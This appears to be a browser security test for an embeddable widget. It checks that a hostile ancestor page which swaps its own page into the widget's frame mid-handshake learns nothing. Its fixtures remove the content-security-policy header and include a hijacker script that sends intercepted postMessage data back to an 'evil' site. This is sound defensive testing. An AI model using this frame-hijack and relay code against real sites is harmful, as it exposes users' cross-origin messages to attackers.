import { expect } from 'vitest';
import { embeddingPage, framingPage, htmlPage } from '../support/hostile-pages.ts';
import { frameOf } from './embedder.ts';
import { eventually } from './eventually.ts';
import { test } from './weakened-test.ts';

/** A path that the widget origin answers for any page, once the test lets it. */
const TURNSTILE = '/loader.js?turnstile';

test('case 26: an ancestor puts its own page into the frame between hello and init -> evil receives nothing', async ({
  stage,
  page,
}) => {
  const { proxy, sites, widgetOrigin } = stage;
  const openTurnstile = proxy.hold(TURNSTILE);
  // What evil's page waits for never comes, so that it stays where it is: the loader drops a frame that loads again.
  proxy.hold('/loader.js?never');
  // The wall before this one is away: any page may be an ancestor, and the frame is where everybody finds it.
  proxy.rewriteAnswers(({ 'content-security-policy': _, ...headers }) => headers);
  const takeover = sites.publish('evil', htmlPage(hijackerPage(`${widgetOrigin}/loader.js?never`)));
  const shop = embeddingPage(widgetOrigin, stage.keys.shop);
  const shopUrl = sites.publish('shop', { ...shop, body: `${hostScript(`${widgetOrigin}${TURNSTILE}`)}${shop.body}` });
  await page.goto(sites.publish('evil', framingPage(shopUrl)));
  const shopFrame = await frameOf(page, sites.origin('shop'));
  await eventually(() => shopFrame.evaluate(() => Reflect.get(window, 'Casement')?.open !== undefined)).toBe(true);
  await shopFrame.evaluate(() => Reflect.get(window, 'Casement').open());

  // The host page is now stuck between hello and init.
  await eventually(() => proxy.exchanges().some(({ path }) => path === TURNSTILE)).toBe(true);
  await page.evaluate((url) => {
    const widget = window[0]?.[0];
    if (widget) Reflect.set(widget, 'location', url);
  }, takeover);
  await eventually(() => sites.visits.some(({ path }) => path === '/taken-over')).toBe(true);
  openTurnstile();

  await eventually(() => received(sites.visits)).toContain('control');
  expect(received(sites.visits)).toEqual(['control']);
});

/**
 * The host page hears the hello before the loader does, and stops until the turnstile opens. After the loader has had its
 * turn it sends to anybody, so that the test knows that whoever is in the frame would have heard.
 */
function hostScript(turnstile: string): string {
  return `<script>
    addEventListener('message', ({ data }) => {
      if (data?.t !== 'hello') return;
      const frame = document.querySelector('iframe').contentWindow;
      const request = new XMLHttpRequest();
      request.open('GET', ${JSON.stringify(turnstile)}, false);
      request.send();
      setTimeout(() => frame.postMessage({ t: 'control' }, '*'));
    });
  </script>`;
}

/** Tells its own site what it receives. */
function hijackerPage(never: string): string {
  return `<script>
    addEventListener('message', ({ data }) => fetch('/received?' + (data?.t ?? 'other')));
    fetch('/taken-over');
  </script><img src="${never}">`;
}

function received(visits: readonly { readonly path: string }[]): string[] {
  return visits.flatMap(({ path }) => (path.startsWith('/received?') ? [path.slice('/received?'.length)] : []));
}
